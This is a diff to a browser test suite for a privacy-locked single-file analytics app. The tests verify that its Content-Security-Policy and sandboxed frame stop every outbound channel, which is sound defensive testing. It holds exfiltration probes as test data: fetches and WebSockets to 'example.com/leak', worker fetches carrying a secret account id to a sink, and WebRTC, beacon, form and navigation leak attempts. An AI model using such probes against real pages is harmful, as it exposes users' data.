@@ -18,8 +18,10 @@ import { gzipSync } from 'node:zlib';
 import { createHash } from 'node:crypto';
 import { fileURLToPath, pathToFileURL } from 'node:url';
 import { chromium } from 'playwright-core';
-import { serveDist, CHROMIUM_ARGS } from './serve.mjs';
+import { serveDist, CHROMIUM_ARGS, appOf, gotoApp } from './serve.mjs';
 import { runKernels, KERNELS_WASM } from './kernels.mjs';
+import { openSink, staticProbes, NAVIGATIONS } from './exits.mjs';
+import { createServer as createHttpServer } from 'node:http';
 
 const here = dirname(fileURLToPath(import.meta.url));
 const root = resolve(here, '../..');
@@ -51,26 +53,28 @@ after(async () => {
   }
 });
 
-/** Opens the app in a fresh page; returns the page and its request log. */
+/**
+ * Opens the app in a fresh tab; returns the app (its frame, see appOf in serve.mjs,
+ * as `page`), the tab's request log (every frame and worker of the tab) and the context.
+ */
 async function openApp() {
   const context = await browser.newContext({ acceptDownloads: true });
-  const page = await context.newPage();
+  const tab = await context.newPage();
   const log = { all: [], afterLoad: [], violations: [], csp: [], blocked: [] };
   let loaded = false;
-  page.on('request', (r) => {
+  tab.on('request', (r) => {
     log.all.push(r.url());
     if (loaded) log.afterLoad.push(r.url());
   });
   // A request Chromium blocks by CSP is reported as a request, then as failed: it never left the browser.
-  page.on('requestfailed', (r) => {
+  tab.on('requestfailed', (r) => {
     if (/^csp$|BLOCKED_BY_CSP/.test(r.failure()?.errorText ?? '')) log.blocked.push(r.url());
   });
-  page.on('pageerror', (e) => log.violations.push(`pageerror: ${e.message}`));
-  page.on('console', (m) => {
+  tab.on('pageerror', (e) => log.violations.push(`pageerror: ${e.message}`));
+  tab.on('console', (m) => {
     if (/Content.Security.Policy/i.test(m.text())) log.csp.push(m.text());
   });
-  await page.goto(origin + '/');
-  await page.locator('meta[data-segscope="locked"]').waitFor({ state: 'attached', timeout: 30_000 });
+  const page = await gotoApp(tab, origin + '/');
   loaded = true;
   return { page, log, context };
 }
@@ -80,8 +84,8 @@ function assertPrivate(log, { expectCspReports = false } = {}) {
   const sent = (u) => !log.blocked.includes(u);
   const foreign = log.all.filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:') && !u.startsWith('blob:'));
   assert.deepEqual(foreign.filter(sent), [], 'requests to another origin');
-  // The analysis worker starts from a blob: URL the page built in memory: no network involved.
-  const network = (u) => !u.startsWith(`blob:${origin}/`);
+  // The analysis worker starts from a blob: URL the page built in memory (the sandboxed frame's origin is opaque: blob:null/...).
+  const network = (u) => !u.startsWith('blob:');
   assert.deepEqual(log.afterLoad.filter(sent).filter(network), [], 'requests after the app had loaded');
 }
 
@@ -257,9 +261,7 @@ test('features for clustering: behaviour by default, a change re-runs without re
   await corr.waitFor();
   assert.equal(await corr.locator('tbody tr').count(), Number(/clustered on (\d+) of/.exec(await quality())[1]));
   assert.match(await corr.locator('tbody tr').first().innerText(), /\+1\.0/, 'a feature correlates +1 with itself');
-  const second = await context.newPage();
-  await second.goto(url);
-  await second.locator('meta[data-segscope="locked"]').waitFor({ state: 'attached', timeout: 30_000 });
+  const second = await gotoApp(await context.newPage(), url);
   await second.getByRole('button', { name: 'Load sample' }).click();
   await expectResult(second, 'sample from a bookmarked address');
   assert.equal(await second.getByLabel('Feature set').inputValue(), 'all');
@@ -422,28 +424,108 @@ test('broken files give a clear alert, and the page keeps working', async () => 
   await context.close();
 });
 
-test('every asset carries a Subresource Integrity hash that matches the file', async () => {
-  const html = readFileSync(join(dist, 'index.html'), 'utf8');
-  const links = [...html.matchAll(/<link [^>]*href="\.\/([^"]+\.(?:css|js|wasm))"[^>]*>/g)];
-  assert.ok(links.length >= 3, `css, js and wasm links: ${links.length}`);
-  for (const [tag, file] of links) {
-    const m = /integrity="sha384-([^"]+)"/.exec(tag);
-    assert.ok(m, `${file} has an integrity attribute`);
-    const digest = createHash('sha384').update(readFileSync(join(dist, file))).digest('base64');
-    assert.equal(m[1], digest, `${file}: integrity matches its content`);
+test('the sealed page: one file, every inline script allowed by its hash, the app in a sandboxed frame', async () => {
+  const shell = readFileSync(join(dist, 'index.html'), 'utf8');
+  assert.ok(readFileSync(join(dist, 'segscope-single-file.html')).equals(readFileSync(join(dist, 'index.html'))), 'the single file is the served page');
+  const policyOf = (html) => /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)[1];
+  const scriptsOf = (html) => [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[0].startsWith('<script type="application/json"') || m[0].startsWith('<script type="text/plain"') ? null : m[1]).filter((x) => x !== null);
+  const app = JSON.parse(/<script type="application\/json" id="segscope-app">([\s\S]*?)<\/script>/.exec(shell)[1]);
+  for (const [name, html] of [['shell', shell], ['app', app]]) {
+    const csp = policyOf(html);
+    const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(' ')]));
+    assert.equal(directives['default-src'], "'none'", `${name}: default-src 'none'`);
+    assert.equal(directives['frame-src'], "'none'", `${name}: frame-src 'none' (the shell's confines the frame's navigations)`);
+    assert.equal(directives['connect-src'], undefined, `${name}: no connect-src at all`);
+    assert.ok(!csp.includes('unsafe-inline') && !csp.includes("'unsafe-eval'"), `${name}: no unsafe-inline, no eval`);
+    const scripts = scriptsOf(html);
+    assert.ok(scripts.length >= 1);
+    for (const body of scripts) {
+      const hash = createHash('sha256').update(body).digest('base64');
+      assert.ok(directives['script-src'].includes(`'sha256-${hash}'`), `${name}: every inline script is allowed by its hash`);
+    }
   }
-  const scripts = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
-  const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)[1];
-  for (const body of scripts) {
-    const hash = createHash('sha256').update(body).digest('base64');
-    assert.ok(csp.includes(`'sha256-${hash}'`), 'every inline script is allowed by its hash, not by unsafe-inline');
+  assert.ok(!/<script[^>]*\bsrc=|<link[^>]*\bhref="(?!data:)/.test(shell + app), 'nothing is loaded from a file');
+  assert.match(scriptsOf(app)[0], /RTC/, "the app's first script removes WebRTC");
+
+  const { page, log, context } = await openApp();
+  const tab = page.tab;
+  assert.equal(await tab.locator('#segscope').getAttribute('sandbox'), 'allow-scripts allow-downloads', 'no popups, top navigation, forms or same-origin');
+  assert.equal(page.frame().url(), 'about:srcdoc');
+  assert.equal(await page.evaluate(() => [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof RTCDataChannel, typeof RTCIceCandidate].join()), 'undefined,undefined,undefined,undefined');
+  assert.equal(await page.evaluate(() => origin), 'null', "the frame's origin is opaque: no storage, no same-origin access to the shell");
+  assertPrivate(log);
+  await context.close();
+});
+
+test('no exit after the lock: requests, navigation, popups, forms, pings, workers and WebRTC all fail to reach a local sink', async () => {
+  const sink = await openSink();
+  const summary = [];
+  // Control: the same probes from a page with no policy and no frame reach the sink, so the sink and the probes work.
+  const control = createHttpServer((_, res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>control</title><body></body>'));
+  await new Promise((ok) => control.listen(0, '127.0.0.1', ok));
+  const controlUrl = `http://127.0.0.1:${control.address().port}/`;
+  const ctl = await browser.newContext({ acceptDownloads: true });
+  const ctlPage = await ctl.newPage();
+  await ctlPage.goto(controlUrl);
+  await ctlPage.evaluate(staticProbes, { sink: sink.url, udpPort: sink.udpPort, secret: 'CONTROL' });
+  for (const [name, nav] of Object.entries(NAVIGATIONS)) {
+    const p = await ctl.newPage();
+    await p.goto(controlUrl);
+    await p.evaluate(nav, { sink: sink.url, secret: 'CONTROL' }).catch(() => {});
   }
-  assert.ok(!csp.includes('unsafe-inline'));
+  await new Promise((ok) => setTimeout(ok, 2_000));
+  const reached = sink.hits();
+  const paths = new Set(reached.requests.map((l) => /^\w+ \/([\w-]+)/.exec(l)?.[1]).filter(Boolean));
+  for (const p of ['fetch', 'beacon', 'img', 'popup', 'form-post', 'ping', 'location-href', 'meta-refresh', 'download', 'form-get']) {
+    assert.ok(paths.has(p), `control: ${p} reaches the sink from an unguarded page (reached: ${[...paths].join(', ')})`);
+  }
+  assert.ok(reached.datagrams > 0, 'control: WebRTC reaches the UDP sink from an unguarded page');
+  summary.push(`control (no policy, no frame): ${paths.size} probe paths and ${reached.datagrams} WebRTC datagrams reached the sink`);
+  await ctl.close();
+  control.close();
+
+  for (const how of ['served', 'single file']) {
+    sink.reset();
+    const context = await browser.newContext({ acceptDownloads: true });
+    const tab = await context.newPage();
+    const url = how === 'served' ? origin + '/' : pathToFileURL(join(dist, 'segscope-single-file.html')).href;
+    const page = await gotoApp(tab, url);
+    await page.getByRole('button', { name: 'Load sample' }).click();
+    await expectResult(page, `exits, ${how}`);
+    // The secret: an account id as the page shows it.
+    const secret = (await page.getByRole('table', { name: 'Top anomalies' }).locator('tbody tr td').first().innerText()).trim();
+    assert.match(secret, /^ACC\d+$/);
+    const outcomes = await page.evaluate(staticProbes, { sink: sink.url, udpPort: sink.udpPort, secret });
+    for (const [name, nav] of Object.entries(NAVIGATIONS)) {
+      await page.evaluate(nav, { sink: sink.url, secret }).catch(() => {});
+      await tab.waitForTimeout(150);
+      assert.equal(page.frame().url(), 'about:srcdoc', `${how}: ${name} did not navigate the app's frame`);
+    }
+    // Workers the app itself runs: their fetch and compile are refused by the inherited policy.
+    for (const w of tab.workers()) {
+      await w.evaluate(async ({ sink, secret }) => {
+        await fetch(`${sink}/app-worker?data=${secret}`).catch(() => {});
+        await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {});
+      }, { sink: sink.url, secret });
+    }
+    await tab.waitForTimeout(2_000);
+    const got = sink.hits();
+    summary.push(`${how}: ${Object.keys(outcomes).length + Object.keys(NAVIGATIONS).length} probes; sink saw ${got.bytes} bytes over ${got.connections} TCP connections, ${got.datagrams} datagrams`);
+    assert.deepEqual(got.requests, [], `${how}: no request reached the sink (probe outcomes: ${JSON.stringify(outcomes)})`);
+    assert.equal(got.bytes, 0, `${how}: no byte reached the sink`);
+    assert.equal(got.datagrams, 0, `${how}: no WebRTC datagram reached the sink`);
+    assert.equal(context.pages().length, 1, `${how}: no window was opened`);
+    assert.equal(tab.url().split('#')[0], url.split('#')[0], `${how}: the tab did not navigate`);
+    assert.equal(await page.getByRole('table', { name: 'Segment summary' }).count(), 1, `${how}: the app is still there`);
+    await context.close();
+  }
+  await sink.close();
+  for (const line of summary) console.log(`# exits: ${line}`);
 });
 
 test('the locked policy blocks requests attempted from the page', async () => {
   const { page, log, context } = await openApp();
-  const outcome = await page.evaluate(async () => {
+  const outcome = await page.evaluate(async (origin) => {
     const violations = [];
     document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
     const attempt = async (f) => {
@@ -455,7 +537,7 @@ test('the locked policy blocks requests attempted from the page', async () => {
       }
     };
     const foreign = await attempt(() => fetch('https://example.com/leak?data=1'));
-    const same = await attempt(() => fetch('/index.html'));
+    const same = await attempt(() => fetch(`${origin}/index.html`));
     const image = await new Promise((r) => {
       const img = document.createElement('img');
       img.onload = () => r('allowed');
@@ -465,7 +547,7 @@ test('the locked policy blocks requests attempted from the page', async () => {
     });
     const socket = await new Promise((r) => {
       try {
-        const ws = new WebSocket(`ws://${location.host}/leak`);
+        const ws = new WebSocket(`${origin.replace('http', 'ws')}/leak`);
         ws.onopen = () => r('allowed');
         ws.onerror = () => r('blocked');
       } catch {
@@ -474,7 +556,7 @@ test('the locked policy blocks requests attempted from the page', async () => {
     });
     await new Promise((r) => setTimeout(r, 200));
     return { foreign, same, image, socket, violations };
-  });
+  }, origin);
   assert.equal(outcome.foreign, 'blocked');
   assert.equal(outcome.same, 'blocked', 'even same-origin requests are blocked after load');
   assert.equal(outcome.image, 'blocked', 'an <img> to another origin is blocked');
@@ -486,18 +568,18 @@ test('the locked policy blocks requests attempted from the page', async () => {
   // The analysis worker (a blob: script) inherits the locked policy: no request, no new code.
   const [analysis] = page.workers();
   assert.ok(analysis, 'the analysis worker is running');
-  const inWorker = await analysis.evaluate(async () => {
+  const inWorker = await analysis.evaluate(async (origin) => {
     const violations = [];
     self.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
     const attempt = async (f) => f().then(() => 'allowed', () => 'blocked');
     const out = {
       fetch: await attempt(() => fetch('https://example.com/leak?from=worker')),
-      same: await attempt(() => fetch(self.location.origin + '/index.html')),
+      same: await attempt(() => fetch(origin + '/index.html')),
       compile: await attempt(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
     };
     await new Promise((r) => setTimeout(r, 100));
     return { ...out, violations };
-  });
+  }, origin);
   const { violations, ...attempts } = inWorker;
   assert.deepEqual(attempts, { fetch: 'blocked', same: 'blocked', compile: 'blocked' }, 'the worker can neither fetch nor compile');
   // Blocked by the policy (reported as violations), not merely failing for want of a network:
@@ -524,7 +606,7 @@ test('a crash in the analysis is contained: the page says so and works on withou
   assert.match(text, /crash test requested by the page/, 'the panic message is shown');
   assert.match(text, /the page still works/);
   await page.getByRole('progressbar').waitFor({ state: 'detached', timeout: 10_000 });
-  await page.evaluate(() => history.replaceState(null, '', location.pathname));
+  await page.evaluate(() => history.replaceState(null, '', location.href.split('#')[0]));
   await page.getByRole('button', { name: 'Load sample' }).click();
   await expectResult(page, 'sample after a crash');
   assert.equal(await page.evaluate(() => window.__sameDocument), true, 'no reload happened');
@@ -564,10 +646,11 @@ test('Cancel stops a running analysis at once, and the page stays usable', async
 test('after the first visit the app loads and works with the network off (service worker)', async () => {
   const srv = await serveDist(dist);
   const context = await browser.newContext({ acceptDownloads: true });
-  const page = await context.newPage();
-  await page.goto(srv.url);
-  await page.locator('meta[data-segscope="locked"]').waitFor({ state: 'attached', timeout: 30_000 });
-  const cached = await page.evaluate(async () => {
+  const tab = await context.newPage();
+  const page = await gotoApp(tab, srv.url);
+  // The shell page (not the sandboxed frame, whose origin is opaque) owns the offline cache.
+  await tab.locator('meta[data-segscope="shell-locked"]').waitFor({ state: 'attached', timeout: 30_000 });
+  const cached = await tab.evaluate(async () => {
     const reg = await navigator.serviceWorker.ready;
     const keys = await caches.keys();
     const files = keys.length ? (await (await caches.open(keys[0])).keys()).map((r) => new URL(r.url).pathname) : [];
@@ -576,12 +659,12 @@ test('after the first visit the app loads and works with the network off (servic
   assert.ok(cached.active, 'the service worker is active after the first visit');
   assert.equal(cached.keys.length, 1);
   assert.match(cached.keys[0], /^segscope-[0-9a-f]{16}$/, 'one cache, versioned by content hash');
-  assert.ok(cached.files.some((f) => f.endsWith('.wasm')) && cached.files.some((f) => f.endsWith('.js')), `cached: ${cached.files}`);
+  assert.deepEqual(cached.files, ['/'], 'the sealed page is the one file cached');
   // Network off, and the server gone too: nothing can come from anywhere but the cache.
   await context.setOffline(true);
   await srv.stop();
-  await page.reload();
-  await page.locator('meta[data-segscope="locked"]').waitFor({ state: 'attached', timeout: 30_000 });
+  await tab.reload();
+  await tab.frameLocator('#segscope').locator('meta[data-segscope="locked"]').waitFor({ state: 'attached', timeout: 30_000 });
   await page.getByRole('button', { name: 'Load sample' }).click();
   const k = await expectResult(page, 'sample, offline');
   const csv = await download(page);
@@ -594,16 +677,15 @@ test('after the first visit the app loads and works with the network off (servic
 
 test('the single-file build works when opened from disk (file://), with no request at all', async () => {
   const file = join(dist, 'segscope-single-file.html');
-  assert.ok(existsSync(file), `no ${file}: run node scripts/single-file.mjs dist after the release build`);
+  assert.ok(existsSync(file), `no ${file}: run trunk build --release (its post-build hook, scripts/seal.mjs, writes it)`);
   const context = await browser.newContext({ acceptDownloads: true });
-  const page = await context.newPage();
+  const tab = await context.newPage();
   const requests = [];
   const problems = [];
-  page.on('request', (r) => requests.push(r.url()));
-  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
-  page.on('console', (m) => /Content.Security.Policy|analysis runs on the page/i.test(m.text()) && problems.push(m.text()));
-  await page.goto(pathToFileURL(file).href);
-  await page.locator('meta[data-segscope="locked"]').waitFor({ state: 'attached', timeout: 30_000 });
+  tab.on('request', (r) => requests.push(r.url()));
+  tab.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
+  tab.on('console', (m) => /Content.Security.Policy|analysis runs on the page/i.test(m.text()) && problems.push(m.text()));
+  const page = await gotoApp(tab, pathToFileURL(file).href);
   await page.getByRole('button', { name: 'Load sample' }).click();
   await expectResult(page, 'single file, sample');
   const csv = await download(page);
